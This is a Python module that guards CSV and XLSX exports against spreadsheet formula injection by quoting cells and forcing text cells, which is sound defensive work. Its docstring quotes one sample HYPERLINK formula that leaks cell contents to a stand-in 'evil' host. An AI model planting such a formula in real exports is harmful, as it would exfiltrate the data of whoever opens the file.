"""Cells of every CSV and XLSX the project writes: text stays text, never a formula.

A value such as ``=HYPERLINK("http://evil/?leak="&B2&C2,"x")`` typed as a school's name would run
as a formula in the spreadsheet of whoever opens the export ("CSV injection", OWASP).

* CSV (``csv_writer``): a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return gets a leading single quote, and every field is quoted, as OWASP recommends; the quote
  shows in the cell, which is the price of a CSV that cannot run code.
* XLSX (``xlsx_row``): text is always written as a string cell (openpyxl would otherwise store a
  value starting with ``=`` as a formula); characters XML cannot carry become U+FFFD instead of
  failing the export.

Numbers, dates and booleans pass through unchanged: they are not text and cannot be formulas.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: str) -> str:
    """``value`` neutralised for a CSV cell (a leading ``'`` when it could start a formula)."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cell(value: Any) -> Any:
    return csv_text(value) if isinstance(value, str) else value


def csv_writer(out: TextIO, *, delimiter: str = ",", lineterminator: str = "\r\n") -> Any:
    """A ``csv.writer`` that quotes every field; pass rows through ``csv_row``."""
    return csv.writer(out, delimiter=delimiter, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_cell(ws: Any, value: Any) -> Cell | Any:
    """A string cell for text (never a formula); other values as they are."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
    cell.data_type = "s"  # openpyxl types "=…" as a formula ("f"): text it stays
    return cell


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """Values for ``ws.append`` (a normal or a write-only worksheet) with every text a string cell."""
    return [xlsx_cell(ws, v) for v in values]
